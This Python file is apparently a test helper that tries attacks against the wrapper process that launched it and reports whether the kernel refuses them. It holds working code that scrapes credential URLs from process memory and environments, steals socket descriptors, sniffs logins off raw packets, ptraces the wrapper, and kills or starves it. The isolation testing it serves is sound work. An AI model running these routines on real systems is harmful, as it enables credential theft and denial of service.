"""What a command tries against the wrapper that started it: `attacks.py NAME WORD…`, run by that command's user.

It prints what it got hold of, or `refused` and the kernel's word for why.
"""

import ctypes
import errno
import os
import re
import resource
import signal as signals
import socket
import sys
import time
from pathlib import Path
from typing import NoReturn

WRAPPER = int(os.environ.get("WRAPPER") or os.getppid())
PROC = Path(f"/proc/{WRAPPER}")
LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE = 0x4206
PIDFD_OPEN, PIDFD_GETFD = 434, 438
"""The same on every architecture."""

ALL_PROTOCOLS = 3
DESTINATION = slice(14 + 20 + 2, 14 + 20 + 4)
"""Where a packet has the port that it goes to: Ethernet, IPv4 without options, TCP."""

ENOUGH = 5000
"""Bytes, headers included, of more than two logins with TLS."""

URL = re.compile(rb"[a-z]+://[\x21-\x7e]+@[\x21-\x7e]+")


def nothing() -> str:
    """Only be there."""
    return "here"


def read(name: str) -> bytes:
    """Read one of the wrapper's files in /proc."""
    return (PROC / name).read_bytes()


def look(name: str) -> str:
    """Follow one of the wrapper's links in /proc, or list one of its directories."""
    path = PROC / name
    return str(path.readlink()) if path.is_symlink() else " ".join(entry.name for entry in path.iterdir())


def memory() -> bytes:
    """Find addresses with a password in the wrapper's memory."""
    found = set[bytes]()
    areas = [line.split() for line in (PROC / "maps").read_text().splitlines()]
    with (PROC / "mem").open("rb", buffering=0) as mem:
        for area in areas:
            start, end = (int(word, 16) for word in area[0].split("-"))
            if area[1].startswith("rw"):
                mem.seek(start)
                found.update(URL.findall(mem.read(end - start)))
    return b" ".join(found)


def trace() -> str:
    """Become the wrapper's tracer."""
    demand(LIBC.ptrace(PTRACE_SEIZE, WRAPPER, None, None))
    return "traced"


def steal(port: str) -> str:
    """Take the wrapper's connection to the bus out of its hands, as soon as there is one, and talk on it."""
    wrapper = demand(LIBC.syscall(PIDFD_OPEN, WRAPPER, 0))
    while True:
        for number in range(3, 32):
            try:
                taken = demand(LIBC.syscall(PIDFD_GETFD, wrapper, number, 0))
            except OSError as problem:
                if problem.errno != errno.EBADF:
                    raise
                continue
            if is_connected(taken, int(port)):
                return f"stolen {number}"
        time.sleep(0.01)


def is_connected(descriptor: int, port: int) -> bool:
    """Whether it is a connection to this port."""
    try:
        with socket.socket(fileno=descriptor) as connection:
            return int(connection.getpeername()[1]) == port
    except OSError:
        return False


def sniff(port: str) -> bytes:
    """Listen to everybody's packets until somebody has logged in at this port, for all that is known a few times."""
    heard = b""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL_PROTOCOLS)) as listener:
        while b"\r\nAUTH\r\n" not in heard and len(heard) < ENOUGH:
            packet = listener.recv(65536)
            if int.from_bytes(packet[DESTINATION], "big") == int(port):
                heard += packet
    return heard


def descriptors() -> str:
    """List what was inherited, but for stdin, stdout and stderr; what lists it is gone when it is followed."""
    numbers = [entry for entry in Path("/proc/self/fd").iterdir() if int(entry.name) > 2]
    return " ".join(str(entry.readlink()) for entry in numbers if entry.is_symlink())


def signal(*numbers: str) -> str:
    """Send the wrapper these signals."""
    for number in numbers:
        os.kill(WRAPPER, int(number))
    return "sent"


def sacrifice() -> str:
    """Have the kernel choose the wrapper when memory is short."""
    (PROC / "oom_score_adj").write_text("1000")
    return read("oom_score_adj").decode()


def exhaust() -> NoReturn:
    """Leave the wrapper no processor time, and wait for its end."""
    resource.prlimit(WRAPPER, resource.RLIMIT_CPU, (0, 0))
    while True:
        os.kill(WRAPPER, signals.SIGWINCH)  # which keeps it busy


def append(path: str, text: str) -> str:
    """Change a file."""
    with Path(path).open("a") as file:
        file.write(text)
    return "changed"


def neighbour() -> bytes:
    """Read the environment of whoever else has an address in it, as soon as there is one."""
    while not (found := b" ".join(map(addresses, list_others())).strip()):
        time.sleep(0.01)
    return found


def list_others() -> list[Path]:
    """The processes that there are beside the wrapper and this one."""
    ours = {str(WRAPPER), str(os.getpid())}
    return [entry for entry in Path("/proc").iterdir() if entry.name.isdigit() and entry.name not in ours]


def addresses(process: Path) -> bytes:
    """The addresses in the environment of a process, where that can be read."""
    try:
        return b" ".join(URL.findall((process / "environ").read_bytes()))
    except OSError:
        return b""


def demand(result: int) -> int:
    """Return the result of a call of the C library. Raises OSError."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


ATTACKS = {
    each.__name__: each
    for each in (
        nothing,
        read,
        look,
        memory,
        trace,
        steal,
        sniff,
        descriptors,
        signal,
        sacrifice,
        exhaust,
        append,
        neighbour,
    )
}


def main(name: str, *words: str) -> None:
    """Try it and say what became of it."""
    try:
        got = ATTACKS[name](*words)
    except OSError as problem:
        got = f"refused {errno.errorcode[problem.errno or 0]}"
    sys.stdout.buffer.write(got if isinstance(got, bytes) else got.encode())


if __name__ == "__main__":
    main(*sys.argv[1:])
